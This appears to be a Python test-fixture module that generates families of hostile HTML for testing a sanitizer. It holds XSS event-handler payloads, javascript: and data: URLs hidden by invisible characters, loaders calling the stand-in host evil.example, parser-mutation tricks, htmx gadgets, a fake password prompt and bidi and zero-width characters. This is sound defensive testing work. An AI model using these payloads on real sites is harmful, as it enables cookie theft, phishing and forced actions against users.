# ruff: noqa: E501 - an attack is quoted whole
"""Hostile HTML by families: a few patterns, many fillings. Ours, written for this house.

`JS` is what an attack would run; the page that watches sees each of its deeds.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import product

from filo.core.tests.hostile import HOSTILE

JS = "alert(1),top.pwned=1,parent.document.title=document.cookie"
FAR = "https://evil.example"
EVENTS = {
    "img src=x": ("onerror", "onload"),
    "svg": ("onload", "onclick", "onfocusin"),
    "details open": ("ontoggle", "onmouseover"),
    "input autofocus": ("onfocus", "onblur", "oninput"),
    "body": ("onload", "onpageshow", "onhashchange", "onresize"),
    "video src=x": ("onerror", "onloadstart", "oncanplay"),
    "p style='animation:spin 1s' tabindex=1": ("onanimationstart", "onpointerenter", "onfocus"),
    "marquee": ("onstart", "onfinish"),
    "select autofocus": ("onfocus", "onchange"),
    "a href=# contenteditable": ("onclick", "onpaste", "oncopy", "onbeforeinput"),
    "div popover id=pop": ("onbeforetoggle", "onscroll", "onwheel", "ondrop"),
}
QUOTES = ('{0}="{1}"', "{0}='{1}'", "{0}={1}", "{0}\t=\n{1}", "/{0}={1}", "{0}=`{1}`")
SCHEMES = ("javascript:", "vbscript:", "data:text/html,", "data:text/html;base64,", "livescript:")
VEILS = (
    "{0}",
    " \x01\x02{0}",
    "\t{0}",
    "&#x0a;{0}",
    "\ufeff{0}",
    "\u200b{0}",
    "view-source:{0}",
    "blob:{0}",
)
LOADERS = (
    "<img src='{0}'>",
    "<img srcset='{0} 1x, {0}?2 2x' sizes=1px>",
    "<image href='{0}'></image>",
    "<input type=image src='{0}'>",
    "<video poster='{0}' src='{0}?v'></video>",
    "<audio src='{0}' autoplay></audio>",
    "<table background='{0}'><tr><td background='{0}?td'>x</td></tr></table>",
    "<link rel=stylesheet href='{0}'>",
    "<link rel=preload as=image href='{0}'>",
    "<link rel='dns-prefetch preconnect' href='{0}'>",
    "<link rel=icon href='{0}'>",
    "<iframe src='{0}'></iframe>",
    "<object data='{0}'></object>",
    "<embed src='{0}'>",
    "<script src='{0}'></script>",
    "<script type=module>import '{0}'</script>",
    "<svg><image href='{0}'/><use href='{0}#x'/><feImage href='{0}'/></svg>",
    "<svg><style>@import '{0}';</style></svg>",
    "<style>@import url('{0}'); @font-face {{ font-family: f; src: url('{0}?f') }} * {{ font-family: f }}</style>",
    "<p style=\"background:url('{0}')\">x</p>",
    "<p style='list-style:url({0}); display:list-item'>x</p>",
    "<p style='content:url({0}); cursor:url({0}), auto'>x</p>",
    "<p style='background:image-set(\"{0}\" 1x)'>x</p>",
    "<p style='--x:url({0});background:var(--x)'>x</p>",
    "<meta http-equiv=refresh content='0;url={0}'>",
    "<base href='{0}/'><img src=relative.gif><a href=there>x</a>",
    "<form action='{0}' id=f><input name=word value=1><button autofocus>x</button></form>",
    "<picture><source srcset='{0}'><img alt=x></picture>",
    "<applet archive='{0}' code=x></applet>",
    "<bgsound src='{0}'>",
    "<track src='{0}'><video><track default src='{0}'></video>",
    "<html manifest='{0}'>",
    "<fencedframe src='{0}'></fencedframe><portal src='{0}'></portal>",
    "<a href='https://good.example' ping='{0}'>x</a>",
)
TARGETS = (
    FAR + "/{n}.gif",
    "//evil.example/{n}.gif",
    "\\\\evil.example\\{n}",
    "/account/logout/?{n}",
)
# Markup that is one thing when it is read and another when it is read again.
BORDERS = (
    "math",
    "svg",
    "math><mtext",
    "svg><foreignObject",
    "svg><desc",
    "math><annotation-xml encoding='text/html'",
)
RAW = (
    "style",
    "title",
    "textarea",
    "noscript",
    "xmp",
    "noembed",
    "noframes",
    "iframe",
    "plaintext",
    "template",
    "select",
    "script",
)
# What our own scripts would obey, were it left in the page.
OURS = (
    "<div hx-get='/account/logout/' hx-trigger=load>x</div>",
    "<div data-hx-post='/desk/wishes' data-hx-trigger='load'>x</div>",
    "<div hx-on::load='{js}' hx-on:click='{js}'>x</div>",
    "<div hx-ext='evil' hx-vals='js:{{x:{js}}}' hx-get=/ hx-trigger=load>x</div>",
    "<filo-live data-url='{far}/live'></filo-live><filo-widget data-channel=x></filo-widget>",
    "<form id=composer action={far}><input id=words name=words></form>",
    "<a id=flow name=defaultView href={far}>x</a><img name=getElementById>",
    "<p id=rows class='ev in' data-send data-open=help data-case=cas_1>x</p>",
    "<img name=cookie><form name=body><input name=children></form>",
    "<div popover=manual id=toast>x</div><button popovertarget=toast>x</button>",
    "<dialog open style='position:fixed;inset:0;z-index:99999'>Your session is over: <input type=password></dialog>",
    "<p style='position:absolute;top:-9999px;z-index:9'>x</p><p style='inset:0;position:sticky'>x</p>",
    "<template shadowrootmode=open><script>{js}</script></template>",
    "<slot name=x></slot><style>:root{{--accent:red}} .bub{{display:none}}</style>",
    "<label for=words>x</label><output form=composer>x</output><input form=composer name=text value=evil>",
    "<meta name=htmx-config content='{{\"selfRequestsOnly\":false}}'>",
    '<script type=importmap>{{"imports":{{"x":"{far}"}}}}</script>',
    '<script type=speculationrules>{{"prerender":[{{"urls":["{far}"]}}]}}</script>',
)
UNSEEN = {
    "zero-width": "\u200b\u200c\u200d\u2060\ufeff",
    "bidi": "\u202e\u202d\u2066\u2067\u2068\u2069\u202c",
    "tags": "".join(chr(0xE0000 + ord(c)) for c in "ignore"),
    "variation": "\ufe00\ufe0f\U000e0100",
    "combining": "e" + "\u0301" * 300,
    "controls": "\x01\x08\x0b\x0c\x1b[31m\x1b]0;title\x07\x7f\x9b31m",
    "separators": "\u2028\u2029\x85\u00a0\u3000",
    "nonsense": "\ufffe\uffff\U0001ffff\ufdd0",
}


def pieces() -> Iterator[tuple[str, str]]:
    """(family, HTML) of every piece."""
    yield from (("known", piece) for piece in HOSTILE)
    yield from _events()
    yield from _addresses()
    yield from _loaders()
    yield from _mutants()
    yield from (("ours", one.format(js=JS, far=FAR)) for one in OURS)
    yield from _unseen()


def _events() -> Iterator[tuple[str, str]]:
    for turn, (tag, events) in enumerate(EVENTS.items()):
        for number, event in enumerate(events):
            said = QUOTES[(turn + number) % len(QUOTES)].format(event, JS)
            yield "event", f"<{tag} {said}>x</{tag.split()[0]}>"


def _addresses() -> Iterator[tuple[str, str]]:
    for scheme, veil in product(SCHEMES, VEILS):
        address = veil.format(scheme + JS)
        yield (
            "address",
            f'<a href="{address}">x</a><iframe src="{address}"></iframe><form action="{address}"><button autofocus>x</button></form>',
        )


def _loaders() -> Iterator[tuple[str, str]]:
    for number, loader in enumerate(LOADERS):
        yield "loader", loader.format(TARGETS[number % len(TARGETS)].format(n=number))


def _mutants() -> Iterator[tuple[str, str]]:
    attack = f"<img src=x onerror={JS}>"
    for number, (border, raw) in enumerate(product(BORDERS, RAW)):
        close = border.split(">")[0].split()[0]
        held = (f'<a title="</{raw}>{attack}">', f"<!--</{raw}>{attack}-->", f"</{raw}>{attack}")
        yield "mutant", f"<{border}><{raw}>{held[number % 3]}</{raw}></{close}>"


def _unseen() -> Iterator[tuple[str, str]]:
    for name, marks in UNSEEN.items():
        veiled = marks.join("script")
        yield (
            "unseen",
            f"<p>{name}{marks}</p><{veiled}>{JS}</{veiled}><a href='java{marks}script:{escape(JS)}'>x</a>",
        )
        yield (
            "unseen",
            f"<{marks}img src=x onerror={JS}><p title='{marks}'>fattura{marks}gpj.exe</p>",
        )
